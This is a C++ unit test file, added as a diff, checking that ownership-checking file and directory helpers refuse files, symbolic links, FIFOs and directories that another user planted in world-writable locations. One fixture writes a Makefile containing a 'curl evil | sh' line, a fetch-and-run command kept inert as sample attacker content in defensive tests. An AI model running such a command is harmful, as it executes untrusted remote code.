@@ -1,0 +1,155 @@
+// OpenOwnFile, WriteOwnFile and MakeOwnDirectory, as root (the tests run as root),
+// against what another user (nobody, uid 65534) could have put in a directory that
+// everyone may write. Each refusal must leave what it refused untouched.
+#include "kernel/msgport/own_file.h"
+
+#include <fcntl.h>
+#include <gtest/gtest.h>
+#include <sys/stat.h>
+#include <unistd.h>
+
+#include <filesystem>
+#include <fstream>
+#include <sstream>
+
+#include "tests/temp_dir.h"
+
+namespace ulsp::testing {
+namespace {
+
+constexpr uid_t kNobody = 65534;
+
+std::string Read(const std::string& path) {
+  std::ifstream in(path);
+  std::stringstream s;
+  s << in.rdbuf();
+  return s.str();
+}
+
+void Put(const std::string& path, const std::string& text) { std::ofstream(path) << text; }
+
+mode_t ModeOf(const std::string& path) {
+  struct stat st {};
+  EXPECT_EQ(::lstat(path.c_str(), &st), 0) << path;
+  return st.st_mode & 07777;
+}
+
+// Sets the umask while it lives.
+struct Umask {
+  mode_t old;
+  explicit Umask(mode_t m) : old(::umask(m)) {}
+  ~Umask() { ::umask(old); }
+};
+
+TEST(OwnFile, MakesAndAppendsToAFileOfOurs) {
+  TempDir dir;
+  const std::string log = dir / "log";
+  Umask open(0);
+  for (const char* line : {"one\n", "two\n"}) {
+    auto fd = OpenOwnFile(log, /*append=*/true);
+    ASSERT_TRUE(fd.has_value()) << fd.error();
+    ASSERT_EQ(::write(fd->get(), line, 4), 4);
+  }
+  EXPECT_EQ(Read(log), "one\ntwo\n");
+  EXPECT_EQ(ModeOf(log), 0644u);  // not 0666, though the umask is 0
+  ASSERT_TRUE(WriteOwnFile(log, "three\n").has_value());
+  EXPECT_EQ(Read(log), "three\n");
+  // A character device is written as it is.
+  EXPECT_TRUE(OpenOwnFile("/dev/null", true).has_value());
+}
+
+TEST(OwnFile, RefusesAnotherUsersFileAndLeavesItAlone) {
+  TempDir dir;
+  ASSERT_EQ(::chmod(dir.path().c_str(), 01777), 0);  // like /tmp
+  const std::string theirs = dir / "report.json";
+  Put(theirs, "theirs\n");
+  ASSERT_EQ(::chown(theirs.c_str(), kNobody, kNobody), 0);
+  for (bool append : {true, false}) {
+    auto fd = OpenOwnFile(theirs, append);
+    ASSERT_FALSE(fd.has_value());
+    EXPECT_EQ(fd.error(), theirs + ": a file owned by uid 65534, neither yours nor root's: refusing to use what another user "
+                                   "controls");
+  }
+  EXPECT_FALSE(WriteOwnFile(theirs, "ours\n").has_value());
+  EXPECT_EQ(Read(theirs), "theirs\n");  // not emptied, not appended to
+}
+
+TEST(OwnFile, FollowsOnlyOurOwnSymbolicLinks) {
+  TempDir dir;
+  ASSERT_EQ(::chmod(dir.path().c_str(), 01777), 0);
+  const std::string precious = dir / "shadow", link = dir / "trace.jsonl";
+  Put(precious, "root's\n");
+  ASSERT_EQ(::symlink(precious.c_str(), link.c_str()), 0);
+  ASSERT_EQ(::lchown(link.c_str(), kNobody, kNobody), 0);
+  auto fd = OpenOwnFile(link, true);
+  ASSERT_FALSE(fd.has_value());
+  EXPECT_NE(fd.error().find(link + ": a symbolic link owned by uid 65534"), std::string::npos) << fd.error();
+  EXPECT_FALSE(WriteOwnFile(link, "x").has_value());
+  EXPECT_EQ(Read(precious), "root's\n");
+  // Our own link is followed.
+  ASSERT_EQ(::lchown(link.c_str(), 0, 0), 0);
+  ASSERT_TRUE(WriteOwnFile(link, "through our link\n").has_value());
+  EXPECT_EQ(Read(precious), "through our link\n");
+}
+
+TEST(OwnFile, AFifoWithoutAReaderFailsInsteadOfHanging) {
+  TempDir dir;
+  const std::string fifo = dir / "fifo";
+  ASSERT_EQ(::mkfifo(fifo.c_str(), 0644), 0);
+  auto fd = OpenOwnFile(fifo, true);
+  ASSERT_FALSE(fd.has_value());
+  EXPECT_EQ(fd.error(), fifo + ": No such device or address");
+  ASSERT_EQ(::chown(fifo.c_str(), kNobody, kNobody), 0);
+  const int reader = ::open(fifo.c_str(), O_RDONLY | O_NONBLOCK | O_CLOEXEC);
+  ASSERT_GE(reader, 0);
+  fd = OpenOwnFile(fifo, true);
+  ::close(reader);
+  ASSERT_FALSE(fd.has_value());
+  EXPECT_NE(fd.error().find("a FIFO owned by uid 65534"), std::string::npos) << fd.error();
+}
+
+TEST(OwnDirectory, MakesItAndItsParentsForUsAlone) {
+  TempDir dir;
+  Umask open(0);
+  const std::string upper = dir / "a/b/upper";
+  ASSERT_TRUE(MakeOwnDirectory(upper).has_value());
+  for (const std::string& d : {dir / "a", dir / "a/b", upper}) EXPECT_EQ(ModeOf(d), 0755u) << d;
+  EXPECT_TRUE(MakeOwnDirectory(upper).has_value());  // there already: fine
+  // Through a link of ours.
+  ASSERT_EQ(::symlink(upper.c_str(), (dir / "link").c_str()), 0);
+  EXPECT_TRUE(MakeOwnDirectory(dir / "link").has_value());
+}
+
+TEST(OwnDirectory, RefusesOneAnotherUserControls) {
+  TempDir dir;
+  ASSERT_EQ(::chmod(dir.path().c_str(), 01777), 0);
+  const std::string theirs = dir / "upper";
+  ASSERT_EQ(::mkdir(theirs.c_str(), 0755), 0);
+  Put(theirs + "/Makefile", "all:\n\tcurl evil | sh\n");
+  ASSERT_EQ(::chown(theirs.c_str(), kNobody, kNobody), 0);
+  auto r = MakeOwnDirectory(theirs);
+  ASSERT_FALSE(r.has_value());
+  EXPECT_EQ(r.error(), theirs + ": a directory owned by uid 65534, neither yours nor root's: refusing to use what another "
+                                "user controls");
+  // Ours, but everyone may write in it.
+  ASSERT_EQ(::chown(theirs.c_str(), 0, 0), 0);
+  ASSERT_EQ(::chmod(theirs.c_str(), 01777), 0);
+  r = MakeOwnDirectory(theirs);
+  ASSERT_FALSE(r.has_value());
+  EXPECT_EQ(r.error(), theirs + ": a directory other users may write (mode 1777): what they put there would be served as "
+                                "yours");
+  // Their link to a directory of ours.
+  const std::string ours = dir / "ours", link = dir / "link";
+  ASSERT_EQ(::mkdir(ours.c_str(), 0755), 0);
+  ASSERT_EQ(::symlink(ours.c_str(), link.c_str()), 0);
+  ASSERT_EQ(::lchown(link.c_str(), kNobody, kNobody), 0);
+  EXPECT_FALSE(MakeOwnDirectory(link).has_value());
+  // Not a directory.
+  Put(dir / "file", "");
+  r = MakeOwnDirectory(dir / "file");
+  ASSERT_FALSE(r.has_value());
+  EXPECT_EQ(r.error(), dir / "file" + ": not a directory");
+}
+
+}  // namespace
+}  // namespace ulsp::testing
